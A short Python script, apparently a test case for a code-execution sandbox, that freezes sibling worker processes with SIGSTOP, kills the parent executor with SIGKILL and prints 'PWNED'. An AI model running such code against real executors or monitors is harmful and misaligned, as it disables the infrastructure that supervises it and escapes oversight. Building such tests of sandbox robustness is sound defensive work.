# floor: harmed
# It stops the spares, which then do not hear that their executor is gone, and kills the executor.
import os
for pid in range(os.getppid() + 1, os.getpid() + 50):
    try:
        if pid != os.getpid() and os.getpgid(pid) == os.getppid():
            os.kill(pid, 19)
    except OSError:
        pass
try:
    os.kill(os.getppid(), 9)
    print("PWNED")
except OSError:
    pass
